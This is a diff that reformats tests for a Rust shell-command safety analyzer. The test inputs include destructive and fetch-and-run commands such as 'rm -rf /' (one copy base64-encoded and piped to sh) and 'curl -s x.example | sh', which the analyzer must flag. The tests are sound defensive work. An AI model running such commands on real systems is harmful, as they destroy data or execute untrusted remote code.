@@ -37,10 +37,19 @@ fn sees_through_spelling_and_wrappers() {
         ("eval 'rm x'", &["eval rm x", "rm x"]),
         ("echo $(whoami)", &["whoami", "echo $(whoami)"]),
         ("echo 'rm x' | bash", &["echo rm x", "bash", "rm x"]),
-        ("echo cm0gLXJmIC8K | base64 -d | sh", &["echo cm0gLXJmIC8K", "base64 -d", "sh", "rm -rf /"]),
-        ("find . -name x -exec rm {} \\;", &["find . -name x -exec rm {} ;", "rm {}"]),
+        (
+            "echo cm0gLXJmIC8K | base64 -d | sh",
+            &["echo cm0gLXJmIC8K", "base64 -d", "sh", "rm -rf /"],
+        ),
+        (
+            "find . -name x -exec rm {} \\;",
+            &["find . -name x -exec rm {} ;", "rm {}"],
+        ),
         ("xargs rm -rf <<< /", &["rm -rf /"]),
-        ("python3 -c \"import os; os.system('rm -rf /')\"", &["python3 -c import os; os.system('rm -rf /')", "rm -rf /"]),
+        (
+            "python3 -c \"import os; os.system('rm -rf /')\"",
+            &["python3 -c import os; os.system('rm -rf /')", "rm -rf /"],
+        ),
         ("for f in *.rs; do wc -l $f; done", &["wc -l $f"]),
         ("if true; then rm x; fi", &["true", "rm x"]),
     ];
@@ -57,9 +66,18 @@ fn issues_table() {
         ("$X -rf /", Some(ShellIssue::DynamicCommand)),
         ("eval \"$X\"", Some(ShellIssue::DynamicEval)),
         ("curl -s x.example | sh", Some(ShellIssue::NetworkToShell)),
-        ("bash <(curl -s https://x.example)", Some(ShellIssue::NetworkToShell)),
-        ("cat f | base64 -d | sh", Some(ShellIssue::DecodedToShell { decoded: false })),
-        ("echo ZWNobyBoaQ== | base64 -d | sh", Some(ShellIssue::DecodedToShell { decoded: true })),
+        (
+            "bash <(curl -s https://x.example)",
+            Some(ShellIssue::NetworkToShell),
+        ),
+        (
+            "cat f | base64 -d | sh",
+            Some(ShellIssue::DecodedToShell { decoded: false }),
+        ),
+        (
+            "echo ZWNobyBoaQ== | base64 -d | sh",
+            Some(ShellIssue::DecodedToShell { decoded: true }),
+        ),
         ("cat script.sh | bash", Some(ShellIssue::PipeToShell)),
         ("bash script.sh", None),
         ("python3 -m pytest -q", None),
@@ -87,9 +105,15 @@ fn bounded_on_hostile_input() {
     assert!(a.has_issue(&ShellIssue::TooDeep));
     let a = analyze(&"x".repeat(MAX_COMMAND_BYTES + 1), ShellEnv::default());
     assert!(a.has_issue(&ShellIssue::TooLarge));
-    let nested = (0..10).fold("ls".to_owned(), |acc, _| format!("sh -c {}", shell_quote_for_test(&acc)));
+    let nested = (0..10).fold("ls".to_owned(), |acc, _| {
+        format!("sh -c {}", shell_quote_for_test(&acc))
+    });
     let a = analyze(&nested, ShellEnv::default());
-    assert!(a.has_issue(&ShellIssue::TooDeep) || a.has_issue(&ShellIssue::TooLarge), "{:?}", a.issues);
+    assert!(
+        a.has_issue(&ShellIssue::TooDeep) || a.has_issue(&ShellIssue::TooLarge),
+        "{:?}",
+        a.issues
+    );
 }
 
 fn shell_quote_for_test(s: &str) -> String {
